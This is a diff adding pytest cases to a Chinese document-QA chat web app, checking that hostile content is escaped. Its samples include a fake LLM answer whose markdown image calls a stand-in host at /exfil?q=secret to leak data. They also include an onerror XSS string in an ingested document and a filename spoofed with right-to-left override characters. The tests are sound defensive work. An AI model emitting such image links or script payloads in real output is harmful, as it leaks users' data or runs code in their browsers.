@@ -154,7 +154,9 @@ def test_an_llm_answer_streams_into_the_chat(column_index_dir: Path):
     shown = [chat[-1]["content"] for chat, *_ in steps]
     partial = [s for s in shown[1:-1] if "bitan-answer" not in s]
     assert len(partial) >= 3  # the text grew piece by piece before the final answer
-    assert all(b.startswith(a) for a, b in zip(partial, partial[1:], strict=False))
+    assert all(s.startswith('<div class="bitan-streaming">') for s in partial)
+    texts = [s.removesuffix("</div>") for s in partial]
+    assert all(b.startswith(a) for a, b in zip(texts, texts[1:], strict=False))
     assert '<a class="bitan-cite" href="#src-0-1">[1]</a>' in shown[-1]
     assert steps[-1][3][0]["html"].count("钱荣新") >= 1
 
@@ -170,3 +172,95 @@ def test_uploads_a_crashed_server_left_staged_are_cleared_at_start(
     leftover.write_text("青山县", encoding="utf-8")
     prepare(Settings(data_dir=index_copy))
     assert not (index_copy / "uploads" / ".incoming").exists()
+
+
+EXFIL = "据钱荣新，宁城县组织开展代表履职评议[1]。\n\n![x](http://203.0.113.9/exfil?q=secret)"
+
+
+def test_markdown_images_from_the_model_or_the_question_stay_text(column_index_dir: Path):
+    from tests.fake_openai import fake_openai_server
+
+    with fake_openai_server() as (url, server):
+        settings = Settings(data_dir=column_index_dir, llm="openai:fake", llm_base_url=url)
+        web = WebApp(build_assistant(settings), column_index_dir)
+        server.replies = [EXFIL]
+        steps = list(web.respond("宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)", [], []))
+    for chat, *_ in steps:
+        for message in chat:
+            assert "![" not in message["content"] and "<img" not in message["content"]
+            assert "\n\n" not in message["content"]
+    question, answer = steps[-1][0]
+    assert question["content"].startswith(
+        '<div class="bitan-question">宁城县如何评价代表履职？&#33;'
+    )
+    assert "&#33;&#91;x&#93;&#40;http&#58;//203.0.113.9/exfil" in answer["content"]
+    assert steps[-1][2][0]["question"] == "宁城县如何评价代表履职？![q](http://203.0.113.9/q.png)"
+
+
+@pytest.mark.parametrize("question", ["?", "x", "。", "🤔🔥", "1+1=?"])
+def test_a_question_without_content_gets_a_notice_in_the_chat(web: WebApp, question: str):
+    chat, box, state, cards, _ = last(web.respond(question, [], []))
+    assert "请提一个关于资料内容的问题" in chat[-1]["content"] and cards == []
+    assert 'class="bitan-notice"' in chat[-1]["content"] and box == question
+    assert state[0]["error"] is True
+    assert web.ask_record(question)["error"].startswith("Please ask a question about the")
+
+
+def test_a_dot_file_in_a_batch_is_rejected_on_its_own(web: WebApp, tmp_path: Path):
+    good = tmp_path / "score.txt"
+    good.write_text("青山县人大常委会建立代表履职积分制度，每季度公开一次积分排名。\n")
+    hidden = tmp_path / "hidden.md"
+    hidden.write_text("青山县的隐藏文件。\n")
+    report = web.upload([upload(hidden, ".md"), upload(good, "evil\u202etxt.score\u2066.txt")])
+    assert report.splitlines() == [
+        "- .md: **rejected** — a hidden file (its name starts with a dot)",
+        "- eviltxt.score.txt: **indexed** — 1 passage",
+    ]
+    assert "eviltxt.score.txt" in web.sources()
+
+
+def test_status_messages_show_file_names_as_text(web: WebApp, tmp_path: Path):
+    odd = tmp_path / "![f](pic.png) ~x~.txt"
+    odd.write_text("青山县人大常委会建立代表履职积分制度。\n")
+    report = web.upload([upload(odd)])
+    assert report == "- \\!\\[f\\](pic.png) \\~x\\~.txt: **indexed** — 1 passage"
+    status = web.delete(odd.name)
+    assert status == "\\!\\[f\\](pic.png) \\~x\\~.txt: **removed** (1 passages)"
+    assert "<b\\>" in web.delete("<b>.txt")  # not indexed: the message names it, escaped
+
+
+def test_feedback_comments_are_capped_and_read_back_whole(web: WebApp):
+    _, _, state, _, _ = last(web.respond("尧都区代表每月补助多少？", [], []))
+    web.record_feedback(1, True, state, "第一行\u2028第二行\u2029" + "长" * 5000)
+    (record,) = web.feedback.read()
+    assert record["comment"].startswith("第一行\u2028第二行\u2029")
+    assert len(record["comment"]) == 2000
+
+
+@pytest.mark.parametrize("question", [["尧都区代表每月补助多少？"], {"q": "x"}, 42, None])
+def test_ask_with_a_question_that_is_not_text_gets_an_error_record(web: WebApp, question):
+    record = web.ask_record(question)
+    assert set(record) == {"error", "question"}
+    assert "must be text" in record["error"] or "type a question" in record["error"]
+    assert "must be text" in web.chat_text(question) or "type a question" in web.chat_text(question)
+
+
+def test_a_cut_question_carries_a_notice_in_its_record(web: WebApp):
+    record = web.ask_record("宁城县如何评价代表履职？" * 200)
+    assert record["notices"] == [
+        "The question was cut to its first 2000 characters. / 问题过长，只取前 2000 个字。"
+    ]
+    assert "notices" not in web.ask_record("宁城县如何评价代表履职？")
+
+
+def test_chat_endpoint_escapes_document_html(web: WebApp, tmp_path: Path):
+    doc = tmp_path / "raw.md"
+    doc.write_text(
+        "青山县人大常委会规定代表每年走访选民不少于四次<img src=x onerror=alert(1)>。"
+        "![p](http://203.0.113.9/p.png)\n",
+        encoding="utf-8",
+    )
+    web.assistant.ingest([doc])
+    text = web.chat_text("青山县代表每年走访选民几次？")
+    assert "\\<img src=x onerror=alert(1)\\>" in text and "\\!\\[p\\]" in text
+    assert "<img" not in text.replace("\\<img", "") and "![" not in text
